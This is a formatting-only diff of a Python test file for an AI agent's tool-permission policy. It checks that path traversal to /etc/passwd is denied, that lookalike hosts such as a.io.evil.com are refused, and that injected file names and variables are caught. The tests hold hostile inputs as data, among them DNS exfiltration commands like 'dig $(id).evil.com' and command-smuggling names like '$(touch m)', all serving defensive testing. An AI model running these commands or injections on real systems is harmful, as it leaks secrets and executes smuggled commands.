@@ -25,7 +25,9 @@ def test_f01_a_neighbour_with_the_same_prefix_is_outside(tool):
     assert call(tool, OPEN, path=f"{ROOT}/x").effect == "allow"
 
 
-@pytest.mark.parametrize("path", ["../../etc/passwd", "a/../../x", "./a//..//../x", "/etc/passwd", ".."])
+@pytest.mark.parametrize(
+    "path", ["../../etc/passwd", "a/../../x", "./a//..//../x", "/etc/passwd", ".."]
+)
 def test_f02_paths_that_climb_out(path):
     assert call("read_file", OPEN, path=path).effect == "deny"
     assert call("write_file", OPEN, path=path).effect == "deny"
@@ -41,7 +43,9 @@ def test_f03_a_link_to_a_secret_is_resolved_then_matched(tmp_path):
     resolved = os.path.realpath(root / "notes.txt")
     facts = CallFacts(args={}, category="read", read_only=True, paths=(resolved,))
     assert evaluate("read_file", facts, under).rule == "safety:secret"
-    assert evaluate("read_file", facts, policy(rule("*"), root=str(root), home="/x")).effect == "deny"
+    assert (
+        evaluate("read_file", facts, policy(rule("*"), root=str(root), home="/x")).effect == "deny"
+    )
 
 
 PROTECTED = [
@@ -115,7 +119,12 @@ def test_n01_a_host_is_not_a_prefix():
     assert not url_allowed("https://b.a.io", ("a.io",))
     assert url_allowed("https://b.a.io", ("*.a.io",))
     assert not url_allowed("https://a.io", ("*.a.io",))
-    assert call("web_fetch", policy(rule("web_fetch"), hosts=("a.io",)), url="https://a.io.evil.com").effect == "deny"
+    assert (
+        call(
+            "web_fetch", policy(rule("web_fetch"), hosts=("a.io",)), url="https://a.io.evil.com"
+        ).effect
+        == "deny"
+    )
 
 
 @pytest.mark.parametrize(
@@ -129,7 +138,9 @@ def test_n01_a_host_is_not_a_prefix():
 )  # fmt: skip
 def test_n02_odd_writings_of_hosts_are_not_allowed(url):
     assert not url_allowed(url, ("good.com",))
-    assert call("web_fetch", policy(rule("web_fetch"), hosts=("good.com",)), url=url).effect == "deny"
+    assert (
+        call("web_fetch", policy(rule("web_fetch"), hosts=("good.com",)), url=url).effect == "deny"
+    )
 
 
 def test_n02_writings_of_the_same_host_are_one():
@@ -150,7 +161,9 @@ def test_n04_a_redirection_is_asked_again():
     assert [url_allowed(hop, allowed) for hop in hops] == [True, False]
 
 
-@pytest.mark.parametrize("command", ["ping $(cat s).evil.com", "nslookup x.evil.com", "dig $(id).evil.com", "host a.b"])
+@pytest.mark.parametrize(
+    "command", ["ping $(cat s).evil.com", "nslookup x.evil.com", "dig $(id).evil.com", "host a.b"]
+)
 def test_n05_lookups_are_not_reads(command):
     for profile in ("strict", "balanced", "auto-edit"):
         assert bash(command, policy(*prefixes("cat", "id"), profile=profile)).effect == "ask"
@@ -164,7 +177,10 @@ def test_t06_an_argument_that_begins_with_dashes_stays_an_argument():
     assert call("read_file", policy(), path="--help").effect == "allow"
 
 
-@pytest.mark.parametrize("name", ["$(touch m)", "`touch m`", "a; touch m", "a\ntouch m", "x'; touch m; '", "--upload-pack=x"])
+@pytest.mark.parametrize(
+    "name",
+    ["$(touch m)", "`touch m`", "a; touch m", "a\ntouch m", "x'; touch m; '", "--upload-pack=x"],
+)
 def test_t09_a_title_with_code_is_one_word(name):
     found = analyse(f"git checkout -- {shlex.quote(name)}")
     assert not found.unnamed
@@ -188,7 +204,12 @@ def test_t11_a_child_is_never_wider_than_its_parent():
     assert bash("make", child).effect == "ask"
     assert bash("rm x", child).effect == "deny"
     assert call("read_file", child, path="/etc/passwd").effect == "deny"
-    assert evaluate("write_file", CallFacts(args={}, category="edit", paths=("/x",)), child, grants).effect == "deny"
+    assert (
+        evaluate(
+            "write_file", CallFacts(args={}, category="edit", paths=("/x",)), child, grants
+        ).effect
+        == "deny"
+    )
     assert child.depth == 1
     grandchild = child_policy(child, policy(rule("*"), yolo=True))
     assert bash("make", grandchild).effect == "ask"
@@ -203,6 +224,11 @@ def test_t11_a_child_is_never_wider_than_its_parent():
 )  # fmt: skip
 def test_t12_variables_that_run_things_are_asked(variable):
     under = policy(*prefixes("git diff", "npm test", "ls", "env"))
-    for command in (f"{variable} git diff", f"export {variable}; npm test", f"env {variable} ls", f"{variable}; git diff"):
+    for command in (
+        f"{variable} git diff",
+        f"export {variable}; npm test",
+        f"env {variable} ls",
+        f"{variable}; git diff",
+    ):
         assert bash(command, under).effect == "ask", command
         assert bash(command, policy(rule("bash(rm:*)", "deny"), yolo=True)).effect == "ask", command
